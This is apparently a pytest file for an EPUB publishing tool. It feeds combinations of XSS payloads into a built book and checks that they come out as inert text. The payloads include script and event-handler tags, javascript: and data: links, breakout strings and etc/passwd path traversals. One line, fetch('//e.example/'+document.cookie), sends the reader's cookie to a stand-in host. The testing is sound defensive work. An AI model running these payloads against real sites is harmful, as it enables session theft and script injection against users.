"""Titles, names and texts that attack: in the book they are words, and no script gets into it."""

from __future__ import annotations

from itertools import product
from pathlib import Path

import pytest
from lxml import etree

from content.library import load
from publisher import epub, issue, package
from publisher.issue import Issue
from publisher.news import Lab
from quizzes.questions import Bank
from tests.publisher.conftest import checker_messages

ACTS = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "eval(name)", "fetch('//e.example/'+document.cookie)")
SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", " javascript:", "vbscript:", "data:text/html,")
ELEMENTS = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<style>@import '{}'</style>",
    "<object data='{}'></object>",
    "<template><script>{}</script></template>",
)
BREAKOUTS = ("", '">', "'>", "-->", "]]>", "</title>", "</h1></section>", "&lt;/p&gt;", "{{{{")
LINKS = ("[x]({})", "![x]({})", "<{}>", "[x]: {}\n\n[x]", "<a href='{}'>x</a>", "[^x]: [y]({})")
PATHS = tuple(f"[x]({dots}etc/passwd)" for dots in ("../../", "..%2f", "..\\\\", "%2e%2e/", "/", "file:///", "//"))
PAYLOADS = (
    *(before + element.format(act) for before, element, act in product(BREAKOUTS, ELEMENTS, ACTS[:2])),
    *PATHS,
    *(link.format(scheme + act) for link, scheme, act in product(LINKS, SCHEMES, ACTS)),
)
HTML = "{http://www.w3.org/1999/xhtml}"
ACTIVE = {f"{HTML}{name}" for name in ("script", "iframe", "object", "embed", "form", "style", "template", "base")}
HEAD = "---\ntitle: {title}\nsummary: {title}\nkind: trend\nlang: en\nsources:\n  - https://example.org/?a=%22%3E&b=2\n---\n\n{body}\n"


def threats(data: bytes) -> list[str]:
    """Return what could act in a document: elements, handlers and addresses that are not of the web or the book."""
    found = []
    for element in etree.fromstring(data).iter(etree.Element):
        if element.tag in ACTIVE or str(element.tag).endswith("}script"):
            found.append(str(element.tag))
        for name, value in element.attrib.items():
            address = str(name).rpartition("}")[2] in {"href", "src"} and str(value)
            scheme = address.partition(":")[0].strip().lower() if address and ":" in address else "https"
            if str(name).lower().startswith("on") or scheme not in {"https", "http", "mailto"}:
                found.append(f"{name}={value}")
    return found


def quoted(text: str) -> str:
    return "'" + " ".join(text.split()).replace("'", "''") + "'"


@pytest.fixture
def hostile(tmp_path: Path, banks: tuple[Bank, ...]) -> Issue:
    """An issue with every payload as title, text, talk, startup, lab and letter."""
    root = tmp_path / "content"
    for room in ("notes", "talks", "startups"):
        (root / room).mkdir(parents=True)
    for number in range(0, len(PAYLOADS), 8):
        title, body = PAYLOADS[number], "\n\n".join(PAYLOADS[number : number + 8])
        text = HEAD.format(title=quoted(title), body=body)
        (root / "notes" / f"2018-01-n{number}.md").write_text(text, "utf-8")
    cells = [" ".join(one.split()).replace("|", "\\|") for one in PAYLOADS]
    rows = "".join(f"| 11:00 | 11:45 | {one} | 200 | {one} |\n" for one in cells)
    head = f"---\ntitle: {quoted(PAYLOADS[0])}\nsummary: S.\nzone: America/Los_Angeles\n---\n\n{PAYLOADS[1]}\n\n"
    table = f"| Start | End | Category | Level | Title |\n|---|---|---|---|---|\n{rows}"
    (root / "talks" / "2018-01.md").write_text(f"{head}## 2018-01-22 Monday\n\n{table}", "utf-8")
    names = "".join(f"## {one.replace('(', '').replace(')', '')} (City, Country)\n\n{one}\n\n" for one in cells)
    (root / "startups" / "2018-01.md").write_text(
        f"---\ntitle: {quoted(PAYLOADS[2])}\nsummary: S.\n---\n\n{names}", "utf-8"
    )
    choice = issue.Choice("a test", letter="\n\n".join(PAYLOADS), startups="2018-01")
    labs = [Lab(f"lab-{number}", one, one) for number, one in enumerate(PAYLOADS[:20])]
    return issue.compose(load(root)[0], banks, labs, "2018-01", choice)


def test_the_table_of_payloads_is_broad() -> None:
    assert len(set(PAYLOADS)) >= 200


@pytest.mark.parametrize(
    "body", ["<script/>", '<p onclick="x"/>', '<a href="javascript:x">x</a>', '<a href=" DATA:x"/>']
)
def test_the_search_for_threats_finds_one(body: str) -> None:
    assert threats(f'<div xmlns="http://www.w3.org/1999/xhtml">{body}</div>'.encode())


def test_no_payload_becomes_anything_but_words_and_no_path_leaves_the_book(hostile: Issue) -> None:
    entries = package.entries(epub.build(hostile).epub)
    pages = {name: data for name, data in entries.items() if name.endswith((".xhtml", ".opf", ".ncx"))}
    assert len(hostile.articles) == len(range(0, len(PAYLOADS), 8))
    assert hostile.schedule
    assert hostile.startups
    assert {name: found for name, data in pages.items() if (found := threats(data))} == {}
    assert not [name for name in entries if ".." in name or name.startswith("/") or "\\" in name]
    letter = "".join(etree.fromstring(pages["EPUB/letter.xhtml"]).itertext())
    assert "<script>alert(1)</script>" in letter


@pytest.mark.java
def test_the_epub_checker_accepts_the_book_of_payloads(hostile: Issue, tmp_path: Path) -> None:
    assert checker_messages(epub.build(hostile).epub, tmp_path) == []
